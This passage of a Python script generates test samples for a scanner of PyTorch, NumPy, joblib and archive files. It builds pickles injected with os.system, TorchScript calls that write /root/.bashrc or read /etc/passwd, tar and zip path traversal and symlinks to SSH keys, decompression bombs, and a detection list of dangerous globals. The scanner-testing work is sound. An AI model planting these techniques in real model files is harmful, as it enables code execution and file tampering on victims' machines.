    add(f"{M}legacy_payload_data_p4.pt",
        b"".join(parts[:3]) + inject(parts[3]) + b"".join(parts[4:]), "critical", "18",
        "legacy torch with the literal magic; os.system injected into the data pickle #4")
    add(f"{M}legacy_payload_sysinfo_p3.pt",
        b"".join(parts[:2]) + inject(parts[2]) + b"".join(parts[3:]), "critical", "18",
        "legacy torch with the literal magic; os.system injected into the sys_info pickle #3")
    legacy_tar = tar_bytes([
        ("sys_info", parts[2], "file", None),
        ("pickle", evil_pickle(2), "file", None),
        ("storages", pickle.dumps(0, protocol=2), "file", None),
        ("tensors", pickle.dumps(0, protocol=2), "file", None)])
    add(f"{M}legacy_tar_pickle_member.tar", legacy_tar, "critical", "-",
        "torch 0.1.x tar layout (sys_info, pickle, storages, tensors) with os.system in 'pickle'")

    # Row 19: polyglots.
    add(f"{M}polyglot_pickle_then_zip.pkl", evil_pickle(2) + sd_zip, "critical", "19",
        "os.system pickle at offset 0 followed by a benign torch zip (EOCD at the end)")
    add(f"{M}polyglot_benign_pickle_then_evil_zip.pkl",
        pickle.dumps({"ok": 1}, protocol=2) + evil_zip, "critical", "19",
        "benign pickle at offset 0, then a torch zip whose data.pkl runs os.system "
        "(zipfile finds it through the end record)")

    # Row 20: compressed joblib with a payload.
    pipe = ctx["pipe"]
    evil_obj = {"model": pipe, "hook": Reduce(os.system, (CMD,))}
    for comp in (None, "zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        add(f"{M}joblib_payload_{comp or 'plain'}.joblib", joblib_dump(evil_obj, comp),
            "critical", "20" if comp else "-",
            "joblib.dump of {'model': Pipeline, 'hook': posix.system via __reduce__}"
            + (f", compress=('{comp}', 3)" if comp else ", uncompressed"), marker=b"system")

    # Row 21: duplicate names.
    good = read_entries(sd_zip)
    bad_pkl = next(e for e in read_entries(evil_zip) if e.name.endswith("/data.pkl"))
    add(f"{M}zip_duplicate_evil_first.pt", build_zip([bad_pkl] + good), "critical", "21",
        "torch zip with two archive/data.pkl records: malicious first, benign second")
    add(f"{M}zip_duplicate_evil_last.pt", build_zip(good + [bad_pkl]), "critical", "21",
        "torch zip with two archive/data.pkl records: benign first, malicious last "
        "(zipfile.open by name returns the last)")

    # Other zip differentials.
    add(f"{M}zip_prefixed_data.pt", build_zip(read_entries(evil_zip), prefix=b"\x00" * 100
                                              + b"not a zip header " * 8),
        "critical", "-", "torch zip with 236 bytes before the first entry (offsets fixed up): "
        "zipfile reads it, torch does not (no PK at 0); payload in data.pkl")
    add(f"{M}zip_two_eocd_evil_first.pt", evil_zip + sd_zip, "critical", "-",
        "malicious torch zip followed by a benign one: two end records, readers that use "
        "the last one see only the benign archive")
    es = read_entries(evil_zip)
    pkl_i = next(i for i, e in enumerate(es) if e.name.endswith("/data.pkl"))
    add(f"{M}zip_overlap_entries.pt",
        build_zip(es, extra_cd=[("archive/extra/readme.txt", pkl_i)]),
        "critical", "-", "torch zip with an extra central record archive/extra/readme.txt "
        "pointing at the local header of archive/data.pkl (overlapping entries; payload there)")

    # CVE-2026-24747: declared storage larger than its record.
    def shrink(e):
        return ZEntry(e.name, data=e.raw[:8], method=0) if e.name.endswith("/data/0") else e
    add(f"{M}torch_storage_truncated.pt", build_zip([shrink(e) for e in read_entries(sd_zip)]),
        "high", "-", "torch zip whose data.pkl declares 18 float32 elements for storage '0' "
        "but archive/data/0 holds 8 bytes (CVE-2026-24747 size mismatch)",
        marker="note:declares 72 bytes, record has 8")

    def inflate_numel(pkl):
        pat = re.compile(rb"(X\x01\x00\x00\x000q.X\x03\x00\x00\x00cpuq.)K(.)", re.S)
        new, n = pat.subn(lambda m: m.group(1) + P.BININT + struct.pack("<i", 1 << 26), pkl, 1)
        assert n == 1
        return new
    add(f"{M}torch_storage_numel_inflated.pt", replace_member(sd_zip, "/data.pkl",
                                                              inflate_numel),
        "high", "-", "torch zip whose data.pkl persistent id declares 2^26 elements "
        "(256 MiB) for storage '0', a 72-byte record (CVE-2026-24747)",
        marker="note:declares 268435456 bytes, record has 72")

    # TorchScript.
    ts = ctx["ts"]
    add(f"{M}torchscript_aten_save.pt", ts["saver"], "high", "-",
        "torch.jit.save of a scripted module whose forward calls torch.save(y, "
        "'/tmp/pwned.pt') (aten::save, CVE-2025-32434 chain)", marker=b"torch.save(")
    add(f"{M}torchscript_from_file.pt", ts["reader"], "high", "-",
        "torch.jit.save of a scripted module whose forward calls torch.from_file('/etc/passwd')",
        marker=b"torch.from_file(")

    def patch_code(old, new):
        def fn(src):
            assert old in src, (old, src)
            return src.replace(old, new)
        return fn
    call_line = b"return torch.relu((lin).forward(x, ))"
    add(f"{M}torchscript_ops_aten_save.pt",
        replace_member(ts["tiny"], "code/__torch__.py", patch_code(
            call_line, b'y = torch.relu((lin).forward(x, ))\n    '
            b'_0 = ops.aten.save(y, "/root/.bashrc")\n    return y')),
        "high", "-", "real torch.jit.save output with code/__torch__.py patched to call "
        "ops.aten.save(y, '/root/.bashrc')", marker=b"ops.aten.save(")
    add(f"{M}torchscript_custom_namespace_op.pt",
        replace_member(ts["tiny"], "code/__torch__.py", patch_code(
            call_line, b"return ops.evil_ns.run_shell((lin).forward(x, ))")),
        "high", "-", "real torch.jit.save output with code/__torch__.py patched to call "
        "ops.evil_ns.run_shell (an operator outside aten/prim)", marker=b"ops.evil_ns.")
    add(f"{M}torchscript_constants_pkl.pt",
        replace_member(ts["tiny"], "/constants.pkl", inject), "critical", "-",
        "real torch.jit.save output with os.system injected into constants.pkl")

    # NumPy.
    evil_arr = np.array([1, Reduce(os.system, (CMD,)), "x"], dtype=object)
    buf = io.BytesIO()
    np.save(buf, evil_arr, allow_pickle=True)
    ctx["evil_npy"] = buf.getvalue()
    add(f"{M}npy_object_os_system.npy", buf.getvalue(), "critical", "-",
        "np.save of an object array holding a __reduce__ object: the pickle after the "
        "'|O' header calls posix.system")
    st = np.zeros(2, dtype=[("id", "<i4"), ("obj", "O")])
    st["obj"][1] = Reduce(os.system, (CMD,))
    buf = io.BytesIO()
    np.save(buf, st, allow_pickle=True)
    add(f"{M}npy_structured_object_field.npy", buf.getvalue(), "critical", "-",
        "np.save of a structured dtype with an 'O' field: descr is a list, the pickle "
        "calls posix.system")
    add(f"{M}pickle_named.npy", evil_pickle(2), "critical", "12",
        "bare os.system pickle named .npy (np.load(allow_pickle=True) falls back to pickle)")
    buf = io.BytesIO()
    np.savez(buf, weights=np.ones(4, dtype=np.float32), labels=evil_arr)
    add(f"{M}npz_object_member.npz", fix_zip_times(buf.getvalue()), "critical", "-",
        "np.savez with an object member labels.npy whose pickle calls posix.system")
    buf = io.BytesIO()
    np.savez_compressed(buf, weights=np.ones(4, dtype=np.float32), labels=evil_arr)
    add(f"{M}npz_compressed_object_member.npz", fix_zip_times(buf.getvalue()), "critical",
        "-", "np.savez_compressed variant (deflated members)")

    # joblib specials.
    add(f"{M}joblib_object_array_nested.joblib",
        joblib_dump({"w": np.ones(3), "labels": evil_arr}, None), "critical", "-",
        "joblib.dump of an object array: joblib writes it as a nested protocol-2 pickle "
        "after the wrapper, and that pickle calls posix.system", marker=b"system")
    stops = np.full(4096, ord("."), dtype=np.uint8)  # 0x2e is STOP: naive parsers end here
    after = collections.OrderedDict([("w", stops), ("b", np.zeros(8)),
                                     ("hook", Reduce(os.system, (CMD,)))])
    add(f"{M}joblib_payload_after_array.joblib", joblib_dump(after, None), "critical", "-",
        "joblib.dump: a 4096-byte array of 0x2e (STOP) bytes inline, then the payload; a "
        "parser that reads array bytes as opcodes stops before it (catalogue 2.6 item 12)",
        marker=b"system")

    # tar.
    add(f"{M}tar_pickle_member.tar", tar_bytes([
        ("model", None, "dir", None), ("model/config.json", b"{}\n", "file", None),
        ("model/weights.pkl", evil_pickle(2), "file", None)]), "critical", "-",
        "tar with an os.system pickle member")
    add(f"{M}tar_pickle_member.tar.gz", tar_bytes([
        ("model/pytorch_model.bin", evil_zip, "file", None)], "gz"), "critical", "-",
        "tar.gz with a malicious torch zip member")
    add(f"{M}tar_symlink.tar", tar_bytes([
        ("model/config.json", b"{}\n", "file", None),
        ("model/weights.bin", None, "sym", "/root/.ssh/authorized_keys")]), "high", "-",
        "tar with a symlink member model/weights.bin -> /root/.ssh/authorized_keys",
        marker="note:type b'2'")
    add(f"{M}tar_hardlink.tar", tar_bytes([
        ("model/config.json", b"{}\n", "file", None),
        ("model/passwd", None, "hard", "/etc/passwd")]), "high", "-",
        "tar with a hard link member model/passwd -> /etc/passwd", marker="note:type b'1'")
    add(f"{M}tar_device.tar", tar_bytes([("model/null", None, "chr", None)]), "high", "-",
        "tar with a character device member (1, 3)", marker="note:type b'3'")
    add(f"{M}tar_dotdot.tar", tar_bytes([
        ("model/config.json", b"{}\n", "file", None),
        ("model/../../../../tmp/pwned.sh", b"#!/bin/sh\necho pwned\n", "file", None)]),
        "high", "-", "tar member named model/../../../../tmp/pwned.sh (path traversal)",
        marker="note:escapes")
    add(f"{M}tar_pax_path_override.tar", tar_bytes([
        ("model/readme.txt", b"echo pwned\n", "pax", "../../../etc/cron.d/pwned")]),
        "high", "-", "tar whose ustar name is model/readme.txt but whose PAX 'path' record "
        "says ../../../etc/cron.d/pwned (the effective name)", marker="note:escapes")

    # Zip path and type tricks.
    for stem, name in (("dotdot", "../../../../tmp/pwned.sh"), ("absolute", "/etc/cron.d/pwned"),
                       ("backslash", "..\\..\\..\\Windows\\pwned.bat"),
                       ("drive", "C:/Windows/pwned.bat")):
        add(f"{M}zip_path_{stem}.zip", plain_zip([("model/config.json", b"{}\n"),
                                                  (name, b"echo pwned\n")]),
            "high", "-", f"zip member named {name!r} (path traversal)",
            marker="note:unsafe name")
    link = ZEntry("model/weights.bin", data=b"/root/.ssh/authorized_keys", torch=False,
                  flags=0, version=20, made_by=0x031E, ext_attr=0o120777 << 16)
    add(f"{M}zip_symlink.zip", build_zip([link], torch_eocd=False), "high", "-",
        "zip entry with Unix mode S_IFLNK (symlink to /root/.ssh/authorized_keys)",
        marker="note:symlink mode")

    # Compression wrappers of a bare payload.
    ep = evil_pickle(2)
    add(f"{M}pickle.pkl.gz", gz(ep, "model.pkl"), "critical", "-", "gzip of an os.system pickle")
    add(f"{M}pickle.pkl.bz2", bz2.compress(ep), "critical", "-", "bz2 of an os.system pickle")
    add(f"{M}pickle.pkl.xz", lzma.compress(ep), "critical", "-", "xz of an os.system pickle")
    add(f"{M}pickle.pkl.lzma", lzma.compress(ep, format=lzma.FORMAT_ALONE), "critical", "-",
        "lzma-alone (5D 00 00) of an os.system pickle")
    add(f"{M}pickle.pkl.zst", zstd(ep), "critical", "-", "zstd of an os.system pickle")
    add(f"{M}pickle.pkl.lz4", lz4f(ep), "critical", "-", "lz4 frame of an os.system pickle")
    add(f"{M}pickle.pkl.z", zlib.compress(ep, 9), "critical", "-",
        "raw zlib stream (78 DA) of an os.system pickle")
    inner = plain_zip([("model/data.pkl", ep)])
    middle = plain_zip([("inner.zip", inner), ("README.md", b"nested\n")])
    add(f"{M}nested_zip_zip_gzip.zip.gz", gz(middle, "bundle.zip"), "critical", "-",
        "gzip > zip > zip > data.pkl (os.system): payload three containers deep")

    make_hostile(M)


def make_hostile(M):
    """Resource attacks: the scanner must end inconclusive (a cap) or report a
    finding, within bounded memory and time, never clean."""
    gib = 1 << 30
    chunk = bytes(16 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts, crc = [], 0
    for _ in range(gib // len(chunk)):
        parts.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(comp.flush())
    kernel = b"".join(parts)
    big = ZEntry("zeros.bin", raw=kernel, crc=crc, usize=gib, method=8, torch=False,
                 flags=0, version=20)
    bomb = build_zip([big], torch_eocd=False)
    add(f"{M}bomb_zip_1gib.zip", bomb, "inconclusive", "-",
        f"zip with one deflated member of 1 GiB zeros ({len(kernel)} compressed bytes, "
        "ratio ~1000)", marker="note:declares 1073741824", big=True)
    add(f"{M}bomb_zip_in_zip.zip", plain_zip([("inner.zip", bomb)]), "inconclusive", "-",
        "zip holding the 1 GiB bomb zip, deflated again (a few KiB outside)",
        marker="note:declares 1073741824", big=True)
    add(f"{M}bomb_gzip_gzip.gz", gz(gz_stream_of_zeros(gib)), "inconclusive", "-",
        "gzip of gzip of 1 GiB zeros", marker="note:over 64 MiB", big=True)

    small = bytes(16 << 20)
    k16 = deflate(small)
    k = ZEntry("k", raw=k16, crc=zlib.crc32(small), usize=len(small), method=8, torch=False,
               flags=0, version=20)
    add(f"{M}bomb_overlap_256x16mib.zip",
        build_zip([k], cd_order=[], torch_eocd=False,
                  extra_cd=[(f"layer{i:03d}.bin", 0) for i in range(256)]),
        "inconclusive", "-", "non-recursive overlap bomb: 256 central records point at one "
        "16 MiB deflate kernel (4 GiB declared)", marker="note:local name 'k'",
        big=True)

    lie = ZEntry("data.pkl", raw=deflate(bytes(1024)), crc=0, usize=0xFFFFFFFF, method=8,
                 torch=False, flags=0, version=45,
                 cd_extra=struct.pack("<HHQ", 1, 8, 1 << 62))
    add(f"{M}zip64_declares_2p62.zip", build_zip([lie], torch_eocd=False), "inconclusive",
        "-", "zip whose ZIP64 extra declares an uncompressed size of 2^62 bytes for a "
        "1 KiB deflate stream", marker="note:declares 4611686018427387904", big=True)

    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_STORED) as z:
        for i in range(100_000):
            z.writestr(zipfile.ZipInfo(f"{i:05d}", date_time=FIXED_TIME), b"")
    add(f"{M}zip_100k_members.zip.xz", lzma.compress(many.getvalue(), preset=9), "inconclusive",
        "-", "xz of a zip with 100,000 empty members (ZIP64 end record)",
        marker="note:100000 members", big=True)

    nest = evil_pickle(2)
    nest = plain_zip([("data.pkl", nest)])
    for i in range(49):
        nest = plain_zip([(f"level{49 - i}.zip", nest)])
    add(f"{M}zip_nested_50_deep.zip", nest, "inconclusive", "-",
        "zip in zip 50 levels deep, an os.system pickle innermost (beyond any depth cap)",
        marker="payload", big=True)


def gz_stream_of_zeros(n):
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(16 << 20)
    out = [c.compress(chunk) for _ in range(n // len(chunk))]
    out.append(c.flush())
    return b"".join(out)


# ------------------------------------------------------------------- checks
CALLS = {"REDUCE", "OBJ", "INST", "NEWOBJ", "NEWOBJ_EX"}
DANGEROUS = {"os system", "posix system", "builtins eval", "builtins exec", "os popen"}
CAP = 64 << 20


def pickle_globals(data):
    """(globals, n_streams, error) over concatenated pickles, as far as
    pickletools can decode; STACK_GLOBAL operands are taken from the last two
    string pushes, enough for the samples made here."""
    found, streams, f, strs = [], 0, io.BytesIO(data), []
    try:
        while f.tell() < len(data):
            for op, arg, _ in pickletools.genops(f):
                if op.name in ("GLOBAL", "INST"):
                    found.append(arg)
                elif op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE"):
                    strs.append(arg)
                elif op.name == "STACK_GLOBAL" and len(strs) >= 2:
                    found.append(f"{strs[-2]} {strs[-1]}")
            streams += 1
    except Exception as e:  # pickletools raises ValueError and friends
        return found, streams, f"{type(e).__name__} at {f.tell()}"
    return found, streams, None


def looks_pickle(b):
    return b[:1] == b"\x80" or (b[:1] in (b"c", b"(", b"]", b"}") and b.rstrip().endswith(b"."))


class Walk:
    """Unwraps a sample with the standard library and collects what is inside."""

    def __init__(self):
        self.globals, self.blobs, self.notes = [], [], []
        self.budget = 512 << 20  # inflated bytes across the whole sample

    def walk(self, data, name, depth=0):
        if depth > 60:
            self.notes.append("depth>60")
            return
        self.blobs.append(data)
        head = data[:8]
        if head.startswith(b"\x93NUMPY"):
            return self.npy(data, name)
        if head.startswith(b"7z\xbc\xaf\x27\x1c"):
            return self.sz(data, name, depth)
        for magic, fn in ((b"\x1f\x8b", lambda d: self.stream(gzip.GzipFile, d)),
                          (b"BZh", lambda d: self.stream(bz2.BZ2File, d)),
                          (b"\xfd7zXZ\x00", lambda d: self.stream(lzma.LZMAFile, d)),
                          (b"\x5d\x00\x00", lambda d: self.stream(lzma.LZMAFile, d)),
                          (b"\x04\x22\x4d\x18", self.lz4), (b"\x28\xb5\x2f\xfd", self.zst),
                          (b"\x78", self.zlib)):
            if head.startswith(magic) and (magic != b"\x78" or
                                           int.from_bytes(head[:2], "big") % 31 == 0):
                out = fn(data)
                if out is None:
                    self.notes.append(f"{name}: over {CAP >> 20} MiB decompressed, not followed")
                    return
                return self.walk(out, name + "!", depth + 1)
        if len(data) > 262 and data[257:262] == b"ustar":
            return self.tar(data, name, depth)
        if looks_pickle(data):
            g, n, err = pickle_globals(data)
            self.globals += g
            if n > 1:
                self.notes.append(f"{name}: {n} pickles")
            if err:
                self.notes.append(f"{name}: pickletools stops: {err}")
        if b"PK\x05\x06" in data[-(1 << 16) - 22:]:
            self.zip(data, name, depth)

    def stream(self, cls, data):
        src = io.BytesIO(data)
        with cls(fileobj=src) if cls is gzip.GzipFile else cls(src) as f:
            out = f.read(CAP + 1)
        return None if len(out) > CAP else out

    def zlib(self, data):
        d = zlib.decompressobj()
        out = d.decompress(data, CAP + 1)
        return None if len(out) > CAP else out

    def lz4(self, data):
        import lz4.frame
        d = lz4.frame.LZ4FrameDecompressor()
        out = d.decompress(data, max_length=CAP + 1)
        return None if len(out) > CAP else out

    def zst(self, data):
        p = subprocess.run(["zstd", "-dc"], input=data, capture_output=True, check=True)
        return p.stdout[:CAP]

    def sz(self, data, name, depth):
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, "x.7z")
            with open(path, "wb") as f:
                f.write(data)
            listing = subprocess.run(["7z", "l", "-slt", "-bd", path], capture_output=True,
                                     text=True, check=True).stdout
            members = re.findall(r"^Path = (.+)$", listing, re.M)[1:]
            for m in members:
                out = subprocess.run(["7z", "x", "-so", "-bd", path, m], capture_output=True,
                                     check=True).stdout
                self.walk(out, f"{name}!{m}", depth + 1)

    def tar(self, data, name, depth):
        with tarfile.open(fileobj=io.BytesIO(data)) as t:
            for m in t.getmembers():
                if not (m.isfile() or m.isdir()):
                    self.notes.append(f"{name}: {m.name} is type {m.type!r}")
                if ".." in m.name.split("/") or m.name.startswith("/"):
                    self.notes.append(f"{name}: {m.name} escapes")
                if m.isfile():
                    self.walk(t.extractfile(m).read(), f"{name}!{m.name}", depth + 1)

    def zip(self, data, name, depth):
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                spent = 0
                for info in z.infolist():
                    spent += info.file_size
                    if info.file_size <= CAP and spent <= self.budget:
                        z.read(info)
            self.notes.append(f"{name}: zipfile ok")
        except Exception as e:  # zipfile raises many types on crafted input
            self.notes.append(f"{name}: zipfile refuses ({type(e).__name__}: {e})")
        covered = self.zip_cd(data, name, depth)
        # An end record outside every member of the last directory closes
        # another archive (concatenated zips); one inside a member is a nested zip.
        others = [m.start() for m in re.finditer(b"PK\x05\x06", data)
                  if not any(a <= m.start() < b for a, b in covered)
                  and m.start() + 22 < len(data) - 22]
        if others:
            self.notes.append(f"{name}: {len(others) + 1} end records")
        for end in others:
            self.zip_cd(data[:end + 22], name, depth)

    def zip_cd(self, data, name, depth):
        """The central directory whose end record closes data; returns the
        byte ranges of its members."""
        try:
            records = parse_cd(data)
        except Exception as e:  # crafted headers fail in struct and slicing
            self.notes.append(f"{name}: central directory unreadable ({e})")
            return []
        seen = set()
        if len(records) > 1000:
            self.notes.append(f"{name}: {len(records)} members")
        bodies = {}
        for r in records:
            n = r["name"]
            if (".." in re.split(r"[/\\]", n) or n.startswith("/") or "\\" in n
                    or re.match(r"[A-Za-z]:", n)):
                self.notes.append(f"{name}: unsafe name {n!r}")
            if (r["ext_attr"] >> 16) & 0o170000 == 0o120000:
                self.notes.append(f"{name}: {n} has symlink mode")
            if r["name"] != r["lname"]:
                self.notes.append(f"{name}: local name {r['lname']!r} != {r['name']!r}")
            if r["name"] in seen:
                self.notes.append(f"{name}: duplicate {r['name']!r}")
            seen.add(r["name"])
            if r["flags"] & 0x61:
                self.notes.append(f"{name}: {r['name']} flags 0x{r['flags']:04x}")
            if r["usize"] > min(CAP, self.budget):
                self.notes.append(f"{name}: {r['name']} declares {r['usize']} bytes, not read")
                continue
            self.budget -= r["usize"]
            body = entry_data(r)
            if body is None:
                self.notes.append(f"{name}: {r['name']} inflates past the cap")
                continue
            if r["method"] == 0 and zlib.crc32(body) != r["crc"]:
                self.notes.append(f"{name}: {r['name']} CRC mismatch")
            bodies[r["name"]] = body
            self.walk(body, f"{name}!{r['name']}", depth + 1)
        for n, body in bodies.items():
            if n.endswith("/data.pkl"):
                self.storages(body, n[:-len("data.pkl")], bodies, name)
        first = min(r["offset"] for r in records) if records else 0
        if first:
            self.notes.append(f"{name}: {first} bytes before the first entry")
        return [(r["offset"], r["offset"] + 30 + len(r["lname"]) + len(r["lextra"])
                 + len(r["raw"])) for r in records]

    def storages(self, pkl, root, bodies, name):
        """Persistent ids ('storage', type, key, location, numel) of a torch
        data.pkl against the size of each data/<key> record."""
        sizes = {"FloatStorage": 4, "LongStorage": 8, "BFloat16Storage": 2}
        for kind, key, numel in storage_ids(pkl):
            if not isinstance(numel, int) or kind not in sizes:
                continue
            have = len(bodies.get(f"{root}data/{key}", b""))
            if numel * sizes[kind] > have:
                self.notes.append(f"{name}: storage {key} declares {numel * sizes[kind]} "
                                  f"bytes, record has {have}")

    def npy(self, data, name):
        import numpy as np
        f = io.BytesIO(data)
        version = np.lib.format.read_magic(f)
        shape, fortran, dtype = np.lib.format._read_array_header(f, version)
        if dtype.hasobject:
            g, _, err = pickle_globals(data[f.tell():])
            self.globals += g
            self.notes.append(f"{name}: npy v{version[0]} object dtype, pickle follows"
                              + (f" ({err})" if err else ""))


def check(s):
    """Unwrap the sample with the standard library. Benign: no dangerous
    global anywhere, and the real library loads it. Malicious: the marker is
    reachable. Returns a one-line status."""
    w = Walk()
    w.walk(s["data"], os.path.basename(s["path"]))
    bad = sorted({g for g in w.globals if g in DANGEROUS})
    marker = s["marker"]
    if s["path"].startswith("benign/"):
        if bad:
            raise SystemExit(f"{s['path']}: benign sample has {bad}")
        load_benign(s)
    elif marker == "payload" and not bad:
        raise SystemExit(f"{s['path']}: no payload found ({w.notes})")
    elif isinstance(marker, bytes) and not any(marker in b for b in w.blobs):
        raise SystemExit(f"{s['path']}: marker {marker!r} not found")
    elif isinstance(marker, str) and marker.startswith("note:") and \
            not any(marker[5:] in n for n in w.notes):
        raise SystemExit(f"{s['path']}: no note with {marker[5:]!r} ({w.notes[:5]})")
    notes = list(dict.fromkeys(n for n in w.notes if "zipfile ok" not in n))
    if len(notes) > 6:
        notes = notes[:6] + [f"... {len(notes) - 6} more"]
    notes = "; ".join(notes)
    head = f"payload {bad}" if bad else "no dangerous global"
    if isinstance(marker, bytes):
        head = f"{head}, {marker!r} present"
    return head + (f"; {notes}" if notes else "")


def load_benign(s):
    """Benign files are loaded with the library that wrote them."""
    import joblib
    import numpy as np
    import torch
    p, data = s["path"], s["data"]
    if p.endswith(".pt") or p.endswith(".bin"):
        if "torchscript" in p:
            torch.jit.load(io.BytesIO(data))
        else:
            torch.load(io.BytesIO(data))
    elif p.endswith(".npy"):
        np.load(io.BytesIO(data), allow_pickle=True)
    elif p.endswith(".npz"):
        with np.load(io.BytesIO(data), allow_pickle=True) as z:
            for k in z.files:
                z[k]
    elif p.endswith(".joblib"):
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, "m.joblib")
            with open(path, "wb") as f:
                f.write(data)
            joblib.load(path)


def versions():
    out = subprocess.run(["dpkg-query", "-W", "-f", "${Package} ${Version}\n"]
                         + DEBIAN_PACKAGES, capture_output=True, text=True, check=False)
    return out.stdout.strip().splitlines()


README = """# testdata/containers

Real and crafted container samples for the PyTorch, NumPy, joblib and archive
analyzers (`formats/pytorch`, `formats/numpy`, `formats/joblib`, `formats/archive`).

- `benign/`: files written by the real libraries: `torch.save` (zip and legacy
  formats; a state_dict, a whole module, an optimizer state_dict, a bfloat16
  tensor, a non-default archive prefix), `torch.jit.save`, `np.save` (float,
  int, structured, Fortran order, object dtype; header versions 1, 2 and 3),
  `np.savez`/`np.savez_compressed`, `joblib.dump` of an sklearn Pipeline plain and
  with every compression (zlib, gzip, bz2, xz, lzma, lz4) and of arrays of many
  dtypes including object, a tar.gz and a zip of a model folder, a pickle in
  gzip/bz2/xz/zstd/lz4, and a 7z. A correct scanner reports nothing at `medium`
  or above (TorchScript included: a plain scripted module is not a finding at
  medium or above).
- `malicious/`: one container technique per file, covering the container rows
  9-21 of the bypass catalogue (`../shared/reference/pickle-anchors.md` section 4)
  and `format-attacks.md` sections 5.1-5.3 and 6. Payloads are inert
  (`echo pwned`) and were never loaded or executed: pickles are assembled from
  opcodes, spliced into real pickles, or written by `pickle`/`torch.save`/
  `np.save`/`joblib.dump` from an object whose `__reduce__` names `os.system`
  (CPython writes that global as `posix.system`). Zip tricks are built by a
  small writer in `make_samples.py` that reproduces `torch.save`'s bytes exactly
  (the script asserts this on every benign torch zip) before applying the trick.
- `samples.tsv`: `path<TAB>expect<TAB>catalogue<TAB>note`. `expect` is
  - `clean`: no finding at `medium` or above;
  - `critical` / `high`: the minimum severity a correct scanner must report
    (`critical`: code execution, here os.system or eval in a pickle;
    `high`: file write/read or escape: TorchScript `aten::save`/`from_file`/
    non-aten operators, tar/zip links, devices and path traversal, and
    declared storage sizes larger than the data, CVE-2026-24747);
  - `inconclusive`: resource attacks (bombs, 100,000 members, nesting 50
    deep, a member declaring 2^62 bytes). The file must end `inconclusive`
    (a named limit) or with a finding, in bounded memory and time, and never
    `clean`.

  `catalogue` is the section-4 row number, `-` when none applies.

The script checks every file with the standard library only (zipfile, its own
central-directory parser, tarfile, gzip/bz2/lzma/zlib, lz4, the zstd and 7z
tools, and pickletools, which never imports or calls anything): in a malicious
file the payload global (or the TorchScript call) must be reachable; in a
benign file no dangerous global may appear, and the benign file is then loaded
with the library that wrote it. Its output lists, per file, what the standard
library sees (zipfile refusals, name mismatches, CRC errors, link types).

Catalogue rows covered (section 4): 9 (7z), 10 (flag bits 0x1/0x20/0x40),
11 (local/central name mismatch), 12 and 13 (pickle as data.txt, protocols 2
and 0; pickle named .npy), 14 (CRC), 15 (raw pickle as .pt/.bin), 17 (legacy
magic computed by eval or int, payload in pickle #5), 18 (legacy payload in
pickle #4 and #3), 19 (pickle/zip polyglots both ways), 20 (joblib payload
under every compression), 21 (duplicate data.pkl, malicious first and last).
Rows 16 and 22-40 are pickle-level and live in `../pickle/`. Beyond the
catalogue: prefixed data, two end records, overlapping entries, zip/tar path
traversal (`..`, absolute, backslash, drive letter, PAX path override), zip
and tar links and devices, TorchScript `aten::save`/`from_file`/non-aten
operators and a payload in `constants.pkl`, CVE-2026-24747 storage sizes, npy
object arrays (plain and a structured `O` field), npz, joblib object arrays and
a payload after inline array bytes, the legacy 0.1.x tar layout, every
compression wrapper (gzip, bz2, xz, lzma-alone, zstd, lz4, zlib), a three-deep
gzip > zip > zip nest, and the resource attacks.

For joblib the check can only confirm that the payload bytes are present after
decompression: pickletools stops at the first inline array, which is exactly
the desynchronisation a joblib-aware walker must avoid.

The bombs are the only files above 200 KB (`bomb_zip_1gib.zip` is about 1 MB,
`zip_100k_members.zip.xz` about 200 KB).

## Regenerate

    /usr/bin/python3 testdata/containers/make_samples.py

(Debian's interpreter: the pyenv `python3` on PATH lacks the libraries; the
`zstd` and `p7zip-full` packages provide the `zstd` and `7z` tools.) The script
is deterministic: it re-executes itself with `PYTHONHASHSEED=0`, seeds every
model, renames legacy storage keys (C pointers) to 0, 1, ..., fixes zip,
tar, gzip and 7z timestamps, and keeps only the file name of this script in
TorchScript `*.debug_pkl` members (re-deflated; the rest is torch's bytes).
TorchScript debug info records this script's line numbers, so editing the
script above `scripted_modules` changes those files. It takes about a minute (the 1 GiB deflate).

## Made with (Debian bookworm)

{versions}
"""


def main():
    ctx = {}
    make_benign(ctx)
    make_malicious(ctx)
    for sub in ("benign", "malicious"):
        d = os.path.join(HERE, sub)
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    total = 0
    rows = ["path\texpect\tcatalogue\tnote"]
    for s in SAMPLES:
        with open(os.path.join(HERE, s["path"]), "wb") as f:
            f.write(s["data"])
        total += len(s["data"])
        print(f"{s['path']}\t{len(s['data'])}\t{check(s)}")
        rows.append(f"{s['path']}\t{s['expect']}\t{s['cat']}\t{s['note']}")
    with open(os.path.join(HERE, "samples.tsv"), "w") as f:
        f.write("\n".join(rows) + "\n")
    vers = versions()
    with open(os.path.join(HERE, "README.md"), "w") as f:
        f.write(README.format(versions="\n".join(f"- {v}" for v in vers)))
    n_ben = sum(1 for s in SAMPLES if s["path"].startswith("benign/"))
    print(f"{len(SAMPLES)} samples ({n_ben} benign, {len(SAMPLES) - n_ben} malicious), "
          f"{total} bytes")
    for v in vers:
        print(v)


if __name__ == "__main__":
    main()
